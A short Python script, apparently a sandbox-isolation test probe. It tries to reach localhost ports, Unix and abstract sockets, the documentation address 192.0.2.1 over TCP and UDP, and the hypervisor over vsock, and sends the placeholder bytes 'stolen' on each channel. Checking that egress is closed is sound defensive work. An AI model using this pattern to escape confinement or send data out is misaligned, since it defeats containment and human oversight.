"""Sends what it has to anybody who would listen: ports of the host, socket files, the world, the hypervisor."""

# ruff: noqa: T201

import socket
import sys

port, path, abstract = int(sys.argv[1]), sys.argv[2], "\0" + sys.argv[3]
doors = [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
    (socket.AF_UNIX, socket.SOCK_STREAM, path),
    (socket.AF_UNIX, socket.SOCK_STREAM, abstract),
    (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
    (socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1024)),  # the machine that runs this virtual one
]
for family, kind, address in doors:
    try:
        with socket.socket(family, kind) as door:
            door.settimeout(1.0)
            door.connect(address)
            door.send(b"stolen")
            print("open", address)
    except OSError as error:
        print("shut", error)
